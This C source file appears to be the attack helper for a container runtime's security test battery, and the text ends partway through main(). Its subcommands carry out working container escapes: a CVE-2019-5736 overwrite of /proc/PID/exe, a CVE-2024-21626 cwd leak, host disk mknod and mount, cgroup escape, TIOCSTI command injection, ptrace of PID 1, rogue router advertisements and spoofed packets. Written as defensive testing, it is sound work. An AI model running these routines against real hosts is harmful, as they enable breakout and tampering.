// SPDX-License-Identifier: MIT
/*
 * attack: the escape battery's attacks (tests/security/test_escape.sh), static so it
 * runs in any rootfs. Each command tries one classic container escape, as root, and
 * prints key=value details and a last line "outcome=blocked" or "outcome=succeeded"
 * (the attack got past the defence). The suite runs each one inside a default container,
 * where it must be blocked, and as a control where it must succeed: on the host or with
 * --privileged. Every attack is harmless when it succeeds: it reads, opens without
 * writing, writes a value back unchanged, loads an invalid module image, or acts on
 * files and processes the suite made for it. It never writes to a device.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define EXIT_USAGE 2

static const char *errname(int e)
{
	static const struct {
		int e;
		const char *name;
	} names[] = {
	    {EPERM, "EPERM"},
	    {ENOENT, "ENOENT"},
	    {ESRCH, "ESRCH"},
	    {EBADF, "EBADF"},
	    {EACCES, "EACCES"},
	    {EBUSY, "EBUSY"},
	    {ENODEV, "ENODEV"},
	    {ENXIO, "ENXIO"},
	    {EINVAL, "EINVAL"},
	    {EROFS, "EROFS"},
	    {ETXTBSY, "ETXTBSY"},
	    {ENOSYS, "ENOSYS"},
	    {ENOEXEC, "ENOEXEC"},
	    {EFAULT, "EFAULT"},
	    {ENOTDIR, "ENOTDIR"},
	    {EEXIST, "EEXIST"},
	    {EIO, "EIO"},
	    {ENOTTY, "ENOTTY"},
	    {EAFNOSUPPORT, "EAFNOSUPPORT"},
	    {ECONNRESET, "ECONNRESET"},
	    {ECONNREFUSED, "ECONNREFUSED"},
	};
	static char buf[16];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (names[i].e == e)
			return names[i].name;
	snprintf(buf, sizeof(buf), "E%d", e);
	return buf;
}

/* "ok" or the errno name of the last failure. */
static const char *res(int r)
{
	return r < 0 ? errname(errno) : "ok";
}

static int outcome(bool succeeded)
{
	printf("outcome=%s\n", succeeded ? "succeeded" : "blocked");
	return 0;
}

static dev_t arg_dev(const char *s)
{
	unsigned maj, min;

	if (sscanf(s, "%u:%u", &maj, &min) != 2) {
		fprintf(stderr, "attack: bad device '%s' (MAJOR:MINOR)\n", s);
		exit(EXIT_USAGE);
	}
	return makedev(maj, min);
}

/* The classic: chroot into a subdirectory while the working directory stays above it,
 * climb with "..", and chroot there. Works in a plain chroot; pivot_root into a new
 * mount namespace leaves nothing above the root to climb to. */
static int cmd_chroot(void)
{
	char dir[] = "/tmp/.box-attack-XXXXXX";
	struct stat before, after;
	int tmp = open("/tmp", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int r;

	if (tmp < 0 || stat("/", &before) < 0 || !mkdtemp(dir)) {
		perror("attack: chroot setup");
		return 1;
	}
	r = chroot(dir);
	printf("chroot=%s\n", res(r));
	for (int i = 0; r == 0 && i < 64; i++)
		(void)chdir("..");
	if (r == 0)
		printf("second_chroot=%s\n", res(chroot(".")));
	(void)unlinkat(tmp, strrchr(dir, '/') + 1, AT_REMOVEDIR);
	if (stat("/", &after) < 0)
		return 1;
	printf("root_before=%u:%lu\nroot_after=%u:%lu\n", (unsigned)before.st_dev,
	       (unsigned long)before.st_ino, (unsigned)after.st_dev, (unsigned long)after.st_ino);
	return outcome(before.st_dev != after.st_dev || before.st_ino != after.st_ino);
}

/* runc's CVE-2019-5736: hold /proc/PID/exe, then reopen it for writing (retrying while
 * the binary runs) and overwrite the host's binary. */
static int cmd_exe(const char *pid, const char *seconds)
{
	char path[64], self[64];
	struct timespec ts = {0, 20 * 1000000L};
	double left = atof(seconds);
	struct stat st;
	int fd, wfd = -1, seals;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0) {
		printf("open_path=%s\n", errname(errno));
		return outcome(false);
	}
	printf("exe=%u:%lu\n", (unsigned)st.st_dev, (unsigned long)st.st_ino);
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	seals = open(self, O_RDONLY | O_CLOEXEC);
	printf("seals=%d\n", seals < 0 ? -1 : fcntl(seals, F_GET_SEALS));
	for (; left > 0 && wfd < 0; left -= 0.02) {
		wfd = open(self, O_WRONLY | O_CLOEXEC);
		if (wfd < 0)
			nanosleep(&ts, NULL);
	}
	if (wfd < 0) {
		printf("open_write=%s\n", errname(errno));
		return outcome(false);
	}
	printf("open_write=ok\n");
	if (pwrite(wfd, "BOXATTACK", 9, 0) != 9) {
		printf("write=%s\n", errname(errno));
		return outcome(false);
	}
	printf("write=ok\n");
	return outcome(true);
}

/* The first process other than this one whose argv[0] ends in match ("/launch"), found
 * within seconds: a process joining the container from the host, caught before its exec.
 * 0 when none came. */
static int find_joiner(const char *match, double seconds)
{
	struct timespec ts = {0, 5 * 1000000L};

	for (; seconds > 0; seconds -= 0.005) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		int found = 0;

		while (d && !found && (de = readdir(d))) {
			char path[64], argv0[256] = "";
			int pid = atoi(de->d_name), fd;
			ssize_t n;

			if (pid <= 1 || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			n = fd < 0 ? -1 : read(fd, argv0, sizeof(argv0) - 1);
			if (fd >= 0)
				close(fd);
			if (n <= 0)
				continue;
			argv0[n] = '\0';
			n = (ssize_t)strlen(argv0);
			if ((size_t)n >= strlen(match) && !strcmp(argv0 + n - strlen(match), match))
				found = pid;
		}
		if (d)
			closedir(d);
		if (found)
			return found;
		nanosleep(&ts, NULL);
	}
	return 0;
}

/* CVE-2019-5736 against whatever joins the container: the joiner's /proc/PID/exe, held,
 * then reopened for writing once the joiner has exec'd its command. */
static int cmd_exe_watch(const char *match, const char *seconds)
{
	char pid[16];
	int found;

	printf("ready=1\n");
	fflush(stdout);
	found = find_joiner(match, atof(seconds));

	printf("joiner=%d\n", found);
	if (!found)
		return outcome(false);
	snprintf(pid, sizeof(pid), "%d", found);
	return cmd_exe(pid, "5");
}

/* CVE-2024-21626 through the working directory: NAME read relative to the cwd, which must
 * be the container's (where NAME is not) and not a host directory the joiner came from. */
static int cmd_cwd(const char *name)
{
	char cwd[512] = "", buf[128] = "";
	int f = open(name, O_RDONLY | O_CLOEXEC);
	ssize_t n = f < 0 ? -1 : read(f, buf, sizeof(buf) - 1);

	if (!getcwd(cwd, sizeof(cwd)))
		snprintf(cwd, sizeof(cwd), "%s", errname(errno));
	printf("cwd=%s\nopen=%s\n", cwd, res(f));
	if (n > 0) {
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		printf("content=%s\n", buf);
	}
	return outcome(n > 0);
}

static bool read_some(const char *path)
{
	char buf[512];
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0;
}

/* Every block device node in /dev, read (never written). */
static int cmd_blockdevs(void)
{
	DIR *d = opendir("/dev");
	struct dirent *e;
	int found = 0, readable = 0;

	while (d && (e = readdir(d))) {
		char path[300];
		struct stat st;

		snprintf(path, sizeof(path), "/dev/%s", e->d_name);
		if (lstat(path, &st) < 0 || !S_ISBLK(st.st_mode))
			continue;
		found++;
		if (read_some(path)) {
			printf("read=%s\n", path);
			readable++;
		}
	}
	if (d)
		closedir(d);
	printf("found=%d\nreadable=%d\n", found, readable);
	return outcome(readable > 0);
}

#define NODE "/dev/.box-attack-disk"
#define MNT  "/dev/.box-attack-mnt"

/* A device through a node of our own making (with --cap-add MKNOD): opening it is
 * the attack; a disk is then read (512 bytes, never written). */
static int cmd_mknod(const char *type, const char *dev)
{
	mode_t kind = type[0] == 'b' ? S_IFBLK : S_IFCHR;
	int r = mknod(NODE, kind | 0600, arg_dev(dev));
	int fd;

	printf("mknod=%s\n", res(r));
	if (r < 0)
		return outcome(false);
	fd = open(NODE, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	printf("open=%s\n", res(fd));
	if (fd >= 0 && kind == S_IFBLK) {
		char buf[512];

		printf("read=%s\n", res((int)read(fd, buf, sizeof(buf))));
	}
	if (fd >= 0)
		close(fd);
	(void)unlink(NODE);
	return outcome(fd >= 0);
}

/* Mount the host's disk (never written: read a directory listing, detach). */
static int cmd_mount(const char *dev, const char *fstype)
{
	int r = mknod(NODE, S_IFBLK | 0600, arg_dev(dev));
	int entries = 0;

	printf("mknod=%s\n", res(r));
	(void)mkdir(MNT, 0700);
	r = mount(NODE, MNT, fstype, MS_NOSUID | MS_NODEV | MS_NOEXEC | MS_NOATIME, NULL);
	printf("mount=%s\n", res(r));
	if (r == 0) {
		DIR *d = opendir(MNT);

		while (d && readdir(d))
			entries++;
		if (d)
			closedir(d);
		(void)umount2(MNT, MNT_DETACH);
		printf("entries=%d\n", entries);
	}
	(void)rmdir(MNT);
	(void)unlink(NODE);
	return outcome(r == 0);
}

/* Opens for writing and never writes (the control for /proc/sysrq-trigger). */
static int cmd_open_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	printf("open_write=%s\n", res(fd));
	if (fd >= 0)
		close(fd);
	return outcome(fd >= 0);
}

/* Writes a sysctl's own value back: the write is real, the value does not change. */
static int cmd_rewrite(const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));

	if (fd >= 0)
		close(fd);
	if (n <= 0) {
		printf("read=%s\n", errname(errno));
		return outcome(false);
	}
	fd = open(path, O_WRONLY | O_CLOEXEC);
	printf("open_write=%s\n", res(fd));
	if (fd < 0)
		return outcome(false);
	n = write(fd, buf, (size_t)n);
	printf("write=%s\n", res((int)n));
	close(fd);
	return outcome(n > 0);
}

/* An image of zeros is no module: a kernel that gets this far refuses it (ENOEXEC,
 * or ENOSYS without module support); only EPERM means the call was stopped first. */
static int cmd_module(void)
{
	static char image[64];
	int fd = (int)syscall(SYS_memfd_create, "box-attack", 1U /* MFD_CLOEXEC */);
	long a, b;
	int ea, eb;

	a = syscall(SYS_init_module, image, sizeof(image), "");
	ea = errno;
	if (fd >= 0 && write(fd, image, sizeof(image)) != (ssize_t)sizeof(image))
		return 1;
	b = syscall(SYS_finit_module, fd, "", 0);
	eb = errno;
	printf("init_module=%s\nfinit_module=%s\n", a < 0 ? errname(ea) : "ok",
	       b < 0 ? errname(eb) : "ok");
	return outcome(!(a < 0 && ea == EPERM) || !(b < 0 && eb == EPERM));
}

/* A host process (a sleep the suite started): trace it, then kill it. */
static int cmd_kill(const char *arg)
{
	pid_t pid = atoi(arg);
	long t = ptrace(PTRACE_SEIZE, pid, 0, 0);
	int k;

	printf("ptrace=%s\n", res((int)t));
	if (t == 0)
		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
	k = kill(pid, SIGKILL);
	printf("kill=%s\n", res(k));
	return outcome(t == 0 || k == 0);
}

static int cmd_see_pid(const char *pid)
{
	char path[64];
	bool seen;

	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	seen = access(path, F_OK) == 0;
	printf("pid_visible=%d\n", seen);
	return outcome(seen);
}

static int cmd_see_mount(const char *point)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[4096], mnt[4096];
	bool seen = false;

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*s %*s %*s %*s %4095s", mnt) == 1 && !strcmp(mnt, point))
			seen = true;
	if (f)
		fclose(f);
	printf("mount_visible=%d\n", seen);
	return outcome(seen);
}

static int cmd_see_net(void)
{
	struct if_nameindex *ifs = if_nameindex();
	int others = 0;

	for (struct if_nameindex *i = ifs; i && i->if_index; i++) {
		printf("iface=%s\n", i->if_name);
		others += strcmp(i->if_name, "lo") != 0;
	}
	if (ifs)
		if_freenameindex(ifs);
	printf("non_lo=%d\n", others);
	return outcome(others > 0);
}

/* A directory descriptor the host leaked: the shocker-style way out of a root. */
static int cmd_fd(const char *num, const char *name)
{
	int fd = atoi(num), f = openat(fd, name, O_RDONLY | O_CLOEXEC);
	char buf[128] = "";
	ssize_t n = f < 0 ? -1 : read(f, buf, sizeof(buf) - 1);

	printf("openat=%s\n", res(f));
	if (n > 0) {
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		printf("content=%s\n", buf);
	}
	return outcome(n > 0);
}

/* Keyrings are not namespaced. The key goes to this process's own keyring, which dies
 * with it. */
static int cmd_keyring(void)
{
	long k = syscall(SYS_add_key, "user", "box-attack", "x", 1, -2 /* process keyring */);

	printf("add_key=%s\n", res((int)k));
	return outcome(k >= 0);
}

/* Leave the container's cgroup: find or mount a cgroup hierarchy and move into its
 * parent. With FILE (the host control): write our pid into that cgroup.procs. */
static int cmd_cgroup(const char *file)
{
	static const char *const types[][2] = {
	    {"cgroup2", NULL}, {"cgroup", "pids"}, {"cgroup", "memory"}, {"cgroup", "devices"}};
	char path[128];
	int fd, r = -1;

	if (!file) {
		(void)mkdir(MNT, 0700);
		for (size_t i = 0; r < 0 && i < sizeof(types) / sizeof(types[0]); i++) {
			r = mount("cgroup", MNT, types[i][0], MS_NOSUID | MS_NODEV | MS_NOEXEC,
			          types[i][1]);
			printf("mount_%s=%s\n", types[i][1] ? types[i][1] : types[i][0], res(r));
		}
		snprintf(path, sizeof(path), "%s/../cgroup.procs", MNT);
		file = r == 0 ? path : NULL;
	}
	fd = file ? open(file, O_WRONLY | O_CLOEXEC) : -1;
	if (fd >= 0) {
		char pid[16];
		int n = snprintf(pid, sizeof(pid), "%d", getpid());

		r = write(fd, pid, (size_t)n) == n ? 0 : -1;
		close(fd);
	} else {
		r = -1;
	}
	printf("moved=%s\n", res(r));
	if (!strncmp(file ? file : "", MNT, strlen(MNT)))
		(void)umount2(MNT, MNT_DETACH);
	(void)rmdir(MNT);
	return outcome(r == 0);
}

/* Make a read-only mount writable again: this mount namespace's view of it, then with
 * "sb" its superblock (only for a filesystem the container has to itself, like its /sys). */
static int cmd_remount(const char *point, bool sb)
{
	unsigned long flags = MS_REMOUNT | MS_NOSUID | MS_NODEV | MS_NOEXEC;
	int r = mount(NULL, point, NULL, flags | MS_BIND, NULL);
	struct statvfs sv;
	bool ro = statvfs(point, &sv) == 0 && (sv.f_flag & ST_RDONLY);

	printf("remount=%s\n", res(r));
	if (r == 0 && ro && sb) {
		r = mount(NULL, point, NULL, flags, NULL);
		printf("remount_sb=%s\n", res(r));
		ro = statvfs(point, &sv) == 0 && (sv.f_flag & ST_RDONLY);
	}
	printf("readonly=%d\n", ro);
	return outcome(!ro);
}

/* A new user namespace: every capability inside it, and the kernel code behind them
 * (mounting filesystems, netfilter...) within reach of root in the container. */
static int cmd_userns(void)
{
	int r = unshare(CLONE_NEWUSER);

	printf("unshare=%s\n", res(r));
	return outcome(r == 0);
}

/* Docker's masked paths, read. */
static int cmd_masked(void)
{
	static const char *const paths[] = {
	    "/proc/acpi",        "/proc/asound",        "/proc/kcore",
	    "/proc/keys",        "/proc/latency_stats", "/proc/timer_list",
	    "/proc/timer_stats", "/proc/sched_debug",   "/proc/scsi",
	    "/proc/interrupts",  "/sys/firmware",       "/sys/devices/virtual/powercap",
	};
	int leaked = 0;

	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		struct stat st;
		int got = 0;

		if (stat(paths[i], &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			DIR *d = opendir(paths[i]);
			struct dirent *e;

			while (d && (e = readdir(d)))
				got += e->d_name[0] != '.';
			if (d)
				closedir(d);
		} else {
			got = read_some(paths[i]);
		}
		printf("path=%s leaked=%d\n", paths[i], got > 0);
		leaked += got > 0;
	}
	printf("leaked=%d\n", leaked);
	return outcome(leaked > 0);
}

/* Push TEXT and a newline into the input of every terminal within reach: stdin, stdout,
 * stderr and the controlling terminal. Whoever reads that terminal next (the host's
 * shell, once launch exits, if it is the host's terminal) takes it as a typed command. */
static int cmd_tiocsti(const char *arg)
{
	static const char *const targets[] = {"0", "1", "2", "/dev/tty"};
	char text[256];
	bool any = false;

	snprintf(text, sizeof(text), "%s\n", arg);
	for (size_t t = 0; t < sizeof(targets) / sizeof(targets[0]); t++) {
		int fd = t < 3 ? (int)t : open(targets[t], O_RDWR | O_NOCTTY | O_CLOEXEC);
		int r = fd < 0 ? -1 : 0;

		for (const char *p = text; r == 0 && *p; p++)
			r = ioctl(fd, TIOCSTI, p);
		printf("tiocsti_%s=%s\n", t < 3 ? targets[t] : "devtty", res(r));
		any = any || r == 0;
		if (t == 3 && fd >= 0)
			close(fd);
	}
	return outcome(any);
}

/* O_NONBLOCK on the descriptions of stdin, stdout and stderr: shared with whoever gave
 * them, a shell then reads EAGAIN and exits. */
static int cmd_nonblock(void)
{
	bool any = false;

	for (int fd = 0; fd < 3; fd++) {
		int fl = fcntl(fd, F_GETFL), r = fl < 0 ? -1 : fcntl(fd, F_SETFL, fl | O_NONBLOCK);

		printf("nonblock_%d=%s tty=%d\n", fd, res(r), isatty(fd));
		any = any || (r == 0 && isatty(fd));
	}
	return outcome(any);
}

/* Stop PID 1: PTRACE_ATTACH sends it SIGSTOP; exiting at once leaves it stopped. "hold"
 * keeps it in a trace stop until killed. */
static int cmd_ptrace_init(const char *mode)
{
	bool hold = !strcmp(mode, "hold");
	long r = ptrace(hold ? PTRACE_SEIZE : PTRACE_ATTACH, 1, 0, 0);
	int st;

	printf("ptrace=%s\n", res((int)r));
	if (r == 0 && hold) {
		r = ptrace(PTRACE_INTERRUPT, 1, 0, 0);
		if (r == 0)
			r = waitpid(1, &st, __WALL) == 1 ? 0 : -1;
		printf("stopped=%s\nholding=1\n", res((int)r));
		fflush(stdout);
		for (;;)
			pause();
	}
	return outcome(r == 0);
}

/* Socket families a container has no use for; vsock shares the host's port space. */
static int cmd_families(void)
{
	static const struct {
		int family;
		const char *name;
	} fams[] = {{40, "vsock"}, {38, "alg"}, {30, "tipc"},  {21, "rds"},    {3, "ax25"},
	            {1, "unix"},   {2, "inet"}, {10, "inet6"}, {16, "netlink"}};
	bool vsock = false;

	for (size_t i = 0; i < sizeof(fams) / sizeof(fams[0]); i++) {
		int fd = socket(fams[i].family, fams[i].family == 16 ? SOCK_RAW : SOCK_STREAM, 0);

		if (fd < 0 && errno == ESOCKTNOSUPPORT)
			fd = socket(fams[i].family, SOCK_SEQPACKET, 0);
		if (fd < 0 && errno == ESOCKTNOSUPPORT)
			fd = socket(fams[i].family, SOCK_DGRAM, 0);
		printf("%s=%s\n", fams[i].name, res(fd));
		if (fams[i].family == 40)
			vsock = fd >= 0;
		if (fd >= 0)
			close(fd);
	}
	return outcome(vsock);
}

/* Waits (up to 5 s) for a usable link-local address on ifname: an RA must come from one. */
static bool link_local_ready(const char *ifname)
{
	for (int i = 0; i < 100; i++) {
		FILE *f = fopen("/proc/net/if_inet6", "re");
		char addr[33], dev[32];
		unsigned idx, plen, scope, flags;
		bool ok = false;

		while (f && fscanf(f, "%32s %x %x %x %x %31s", addr, &idx, &plen, &scope, &flags,
		                   dev) == 6)
			/* Link scope (0x20), neither tentative (0x40) nor failed DAD (0x08). */
			ok = ok || (!strcmp(dev, ifname) && scope == 0x20 && !(flags & 0x48));
		if (f)
			fclose(f);
		if (ok)
			return true;
		usleep(50000);
	}
	return false;
}

#define RA_PREFIX "2001:db8:b0c5::"

/* One ICMPv6 router advertisement on ifname with the prefix 2001:db8:b0c5::/64, on-link
 * and autonomous: a host that accepts it adds an address and a route on that link. The
 * router lifetime is 0 (not a default router), so even an accepting host keeps its
 * default route: the control harms nothing. */
static int cmd_ra(const char *ifname)
{
	struct {
		struct nd_router_advert ra;
		struct nd_opt_prefix_info pi;
	} pkt = {0};
	struct sockaddr_in6 to = {.sin6_family = AF_INET6};
	int hops = 255, sent = 0, fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
	unsigned idx = if_nametoindex(ifname);

	printf("socket=%s\n", res(fd));
	if (fd < 0 || !idx)
		return outcome(false);
	printf("link_local=%d\n", link_local_ready(ifname));
	pkt.ra.nd_ra_type = ND_ROUTER_ADVERT;
	pkt.ra.nd_ra_curhoplimit = 64;
	pkt.pi.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	pkt.pi.nd_opt_pi_len = 4;
	pkt.pi.nd_opt_pi_prefix_len = 64;
	pkt.pi.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	pkt.pi.nd_opt_pi_valid_time = htonl(600);
	pkt.pi.nd_opt_pi_preferred_time = htonl(600);
	inet_pton(AF_INET6, RA_PREFIX, &pkt.pi.nd_opt_pi_prefix);
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	to.sin6_scope_id = idx;
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
	for (int i = 0; i < 3; i++, usleep(100000))
		sent += sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) ==
		        (ssize_t)sizeof(pkt);
	printf("sent=%d\n", sent);
	close(fd);
	/* Whether a host took it is seen there: this only says it went out. */
	return outcome(sent > 0);
}

static uint16_t csum(const void *p, size_t n)
{
	const uint16_t *w = p;
	uint32_t sum = 0;

	for (; n > 1; n -= 2)
		sum += *w++;
	if (n)
		sum += *(const uint8_t *)w;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* A UDP datagram to DST:PORT that claims to come from SRC (another container, say). */
static int cmd_spoof(const char *src, const char *dst, const char *port)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char data[8];
	} pkt = {0};
	struct sockaddr_in to = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	ssize_t n;

	printf("socket=%s\n", res(fd));
	if (fd < 0)
		return outcome(false);
	memcpy(pkt.data, "spoofed", 8);
	pkt.ip.version = 4;
	pkt.ip.ihl = 5;
	pkt.ip.ttl = 64;
	pkt.ip.protocol = IPPROTO_UDP;
	pkt.ip.tot_len = htons(sizeof(pkt));
	inet_pton(AF_INET, src, &pkt.ip.saddr);
	inet_pton(AF_INET, dst, &pkt.ip.daddr);
	pkt.ip.check = csum(&pkt.ip, sizeof(pkt.ip));
	pkt.udp.source = htons(9);
	pkt.udp.dest = htons((uint16_t)atoi(port));
	pkt.udp.len = htons(sizeof(pkt.udp) + sizeof(pkt.data));
	to.sin_addr.s_addr = pkt.ip.daddr;
	n = sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to));
	printf("sent=%s\n", res((int)n));
	close(fd);
	return outcome(n == (ssize_t)sizeof(pkt));
}

/* N connections at once to IP:PORT (the container's own published port, through its
 * gateway), held for SECONDS. Prints how many the far end kept and how many it reset. */
static int cmd_conns(const char *ip, const char *port, const char *count, const char *secs)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	struct rlimit rl;
	int n = atoi(count), opened = 0, alive = 0, reset = 0;
	int *fds = calloc((size_t)n, sizeof(int));
	struct pollfd *p = calloc((size_t)n, sizeof(*p));

	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 16) {
		rl.rlim_cur = rl.rlim_max < (rlim_t)n + 16 ? rl.rlim_max : (rlim_t)n + 16;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	inet_pton(AF_INET, ip, &to.sin_addr);
	for (int i = 0; i < n; i++) {
		fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fds[i] >= 0 && connect(fds[i], (struct sockaddr *)&to, sizeof(to)) == 0)
			opened++;
		p[i] = (struct pollfd){.fd = fds[i], .events = POLLIN};
	}
	/* A connection the far end refused after accepting it reads as reset or EOF. */
	usleep(1000000);
	poll(p, (nfds_t)n, 0);
	for (int i = 0; i < n; i++) {
		char c;

		if (fds[i] < 0)
			continue;
		if ((p[i].revents & (POLLIN | POLLHUP | POLLERR)) &&
		    recv(fds[i], &c, 1, MSG_DONTWAIT) <= 0)
			reset++;
		else
			alive++;
	}
	printf("opened=%d\nalive=%d\nreset=%d\nready=1\n", opened, alive, reset);
	fflush(stdout);
	sleep((unsigned)atoi(secs));
	return outcome(alive == n);
}

#ifndef SYS_mseal
#define SYS_mseal 462 /* Linux 6.10, newer than the libseccomp the filter is built with */
#endif
#ifndef SYS_move_pages
#define SYS_move_pages 279
#endif
#ifndef SYS_migrate_pages
#define SYS_migrate_pages 256
#endif

/* The calls the default seccomp profile refuses, each made with arguments the kernel turns
 * down or that act on nothing but the attack itself: what is seen is only who answered. */
static long call_clone3_ns(void)
{
	struct {
		uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
	} args = {.flags = CLONE_NEWUSER | CLONE_NEWUTS, .exit_signal = SIGCHLD};
	long pid = syscall(SYS_clone3, &args, sizeof(args));

	if (pid == 0)
		_exit(0);
	if (pid > 0)
		(void)waitpid((pid_t)pid, NULL, 0);
	return pid;
}

static long call_personality(void)
{
	long old = syscall(SYS_personality, (unsigned long)(PER_LINUX | ADDR_NO_RANDOMIZE));

	if (old >= 0)
		(void)syscall(SYS_personality, (unsigned long)old);
	return old;
}

/* Calls no list names, acting on nothing: mseal (Linux 6.10) of an empty range, and for older
 * kernels move_pages and migrate_pages of no page (NUMA kernels). The first answer that is
 * not ENOSYS, if any, shows one reached a kernel that has it. */
static long call_unlisted(void)
{
	static const long calls[][7] = {
	    {SYS_mseal, 0, 0, 0, 0, 0, 0},
	    {SYS_move_pages, 0, 0, 0, 0, 0, 0},
	    {SYS_migrate_pages, 0, 0, 0, 0, 0, 0},
	};
	long r = -1;

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		const long *c = calls[i];

		r = syscall(c[0], c[1], c[2], c[3], c[4], c[5], c[6]);
		printf("nr=%ld\n", c[0]);
		if (r >= 0 || errno != ENOSYS)
			break;
	}
	return r;
}

static long call_syscall(const char *name)
{
	if (!strcmp(name, "io_uring_setup"))
		return syscall(SYS_io_uring_setup, 0, NULL);
	if (!strcmp(name, "userfaultfd")) /* user-mode only plus an unknown flag */
		return syscall(SYS_userfaultfd, 1 | 0x40000000);
	if (!strcmp(name, "bpf"))
		return syscall(SYS_bpf, 999, NULL, 0);
	if (!strcmp(name, "perf_event_open"))
		return syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
	if (!strcmp(name, "open_by_handle_at"))
		return syscall(SYS_open_by_handle_at, -1, NULL, 0);
	if (!strcmp(name, "kexec_load")) /* an unknown flag */
		return syscall(SYS_kexec_load, 0, 0, NULL, 0x80UL);
	if (!strcmp(name, "fsopen"))
		return syscall(SYS_fsopen, "box-no-such-fs", 0);
	if (!strcmp(name, "open_tree")) /* an unknown flag */
		return syscall(SYS_open_tree, -1, "", 0x40000000U);
	if (!strcmp(name, "move_mount")) /* unknown flags */
		return syscall(SYS_move_mount, -1, "", -1, "", 0x40000000U);
	if (!strcmp(name, "mount_setattr")) /* a size below the first version's */
		return syscall(SYS_mount_setattr, -1, "", 0, NULL, 0);
	if (!strcmp(name, "clone3-namespaces"))
		return call_clone3_ns();
	if (!strcmp(name, "personality"))
		return call_personality();
	if (!strcmp(name, "unlisted"))
		return call_unlisted();
	fprintf(stderr, "attack: unknown call '%s'\n", name);
	exit(EXIT_USAGE);
}

/* A call the seccomp filter answers with errno ERRNAME (EPERM, ENOSYS): blocked when that is
 * the answer; any other (success, or the kernel's own refusal) means the call got past it. */
static int cmd_syscall(const char *name, const char *want)
{
	long r = call_syscall(name);
	int e = errno;

	printf("call=%s\nresult=%ld\nerrno=%s\n", name, r, r < 0 ? errname(e) : "none");
	return outcome(!(r < 0 && !strcmp(errname(e), want)));
}

static const char usage[] =
    "usage: attack COMMAND [ARG...]\n"
    "  chroot | exe PID SECONDS | exe-watch ARGV0-SUFFIX SECONDS | cwd NAME | blockdevs | mknod b|c MAJ:MIN | mount MAJ:MIN FSTYPE\n"
    "  open-write PATH | rewrite PATH | module | kill PID | see-pid PID | see-mount PATH\n"
    "  see-net | fd N NAME | keyring | cgroup [FILE] | remount PATH [sb] | userns\n"
    "  masked | tiocsti TEXT | nonblock | ptrace-init attach|hold | families\n"
    "  ra IFNAME | spoof SRC DST PORT | conns IP PORT N SECONDS | syscall NAME ERRNAME\n";

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";
	int n = argc - 2;
	int r = -1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (n == 0 && !strcmp(cmd, "chroot"))
		r = cmd_chroot();
	else if (n == 2 && !strcmp(cmd, "exe"))
		r = cmd_exe(argv[2], argv[3]);
	else if (n == 2 && !strcmp(cmd, "exe-watch"))
		r = cmd_exe_watch(argv[2], argv[3]);
	else if (n == 1 && !strcmp(cmd, "cwd"))
		r = cmd_cwd(argv[2]);
	else if (n == 0 && !strcmp(cmd, "blockdevs"))
		r = cmd_blockdevs();
